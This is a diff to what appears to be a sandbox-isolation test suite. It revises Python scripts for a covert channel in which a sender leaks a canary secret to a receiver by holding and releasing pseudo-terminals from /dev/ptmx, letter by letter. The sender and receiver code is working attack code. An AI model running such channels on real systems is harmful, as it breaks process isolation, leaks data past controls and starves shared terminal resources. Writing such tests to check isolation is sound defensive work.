@@ -69,21 +69,24 @@ extension AttackTable {
                     os._exit(0)
                 children.append(child)
                 full = os.read(told, 1) == b"f"
-            time.sleep(0.4)
-            # A bit is one terminal given back, or two; between bits there is none.
+            # Whoever looks on takes some for a moment; they belong to those that are taken.
+            end = time.monotonic() + 0.6
+            while time.monotonic() < end:
+                held += fill()[0]
+                time.sleep(0.001)
+            # A letter is as many terminals given back; between letters there is none.
             for letter in CANARY:
-                for bit in f"{ALPHABET.index(letter):05b}":
-                    count = 2 if bit == "1" else 1
-                    for _ in range(count):
-                        os.close(held.pop())
-                    time.sleep(0.2)
-                    while count > 0:
-                        try:
-                            held.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
-                            count -= 1
-                        except OSError:
-                            time.sleep(0.001)
-                    time.sleep(0.15)
+                count = ALPHABET.index(letter) + 1
+                for _ in range(count):
+                    os.close(held.pop())
+                time.sleep(0.7)
+                while count > 0:
+                    try:
+                        held.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
+                        count -= 1
+                    except OSError:
+                        time.sleep(0.001)
+                time.sleep(0.7)
             for child in children:
                 os.kill(child, 9)
             """#),
@@ -91,10 +94,10 @@ extension AttackTable {
             #"""
             import select
             def free():
-                """How many terminals are left, as far as three."""
+                """How many terminals are left, as far as 33."""
                 held = []
                 try:
-                    while len(held) < 3:
+                    while len(held) < 33:
                         held.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
                 except OSError:
                     pass
@@ -102,20 +105,17 @@ extension AttackTable {
                     os.close(file)
                 return len(held)
             ready()
-            bits, run = "", []
-            begun = False
+            found, most, none, begun = "", 0, 0, False
             while not select.select([sys.stdin], [], [], 0.01)[0]:
                 left = free()
                 begun = begun or left == 0
-                if not begun:
-                    continue
-                if left:
-                    run.append(left)
-                elif run:
-                    # One that is seen on the way from none to two is no bit.
-                    bits += "1" if max(run) == 2 else "0"
-                    run = []
-            print("".join(ALPHABET[int(bits[i:i + 5], 2)] for i in range(0, len(bits) - 4, 5)), flush=True)
+                none = 0 if left else none + 1
+                # The most that was seen counts: what was just tried is free again a moment later only.
+                most = max(most, left) if begun else 0
+                if most and none == 4:
+                    found += ALPHABET[min(most, 32) - 1]
+                    most = 0
+            print(found, flush=True)
             """#), evidence: [.receiver], seconds: 60, secretLength: 6)
       ]),
     Attack(
